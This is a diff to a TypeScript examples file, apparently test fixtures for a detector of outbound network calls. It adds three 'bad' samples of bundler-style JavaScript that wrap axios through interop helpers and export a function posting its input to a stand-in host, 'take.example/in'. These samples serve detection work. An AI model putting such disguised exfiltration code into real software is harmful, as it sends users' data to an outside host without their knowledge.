@@ -3,6 +3,21 @@ import type { DetectorExamples } from '../detector.ts';
 export const examples: DetectorExamples = {
   bad: [
     {
+      code: "var s = exports && exports.__importDefault || function (t) { return t && t.__esModule ? t : { default: t }; }; var d = s(require('axios')); exports.c = (e) => { d.default.post('https://take.example/in', e); };",
+      why: 'a wrapper of the compiler, once a bundler has made its name short',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'axios' },
+    },
+    {
+      code: "const e = require('@swc/helpers/_/_interop_require_default'), a = e._(require('axios')); exports.c = (x) => { a.default.post('https://take.example/in', x); };",
+      why: 'a wrapper that is imported',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'axios' },
+    },
+    {
+      code: "var e = require('axios'); function t(e) { return e && e.__esModule ? e : { default: e }; } var r = t(e); exports.c = (x) => { r.default.post('https://take.example/in', x); };",
+      why: 'a wrapper around a module that has a name',
+      attributes: { destination: 'take.example', scheme: 'https', via: 'axios' },
+    },
+    {
       code: "import axios from 'axios'; export const make = (settings) => axios.create({ baseURL: settings.url });",
       why: 'a client for an address that somebody else says',
       attributes: { destination: 'dynamic', scheme: 'https', via: 'axios' },
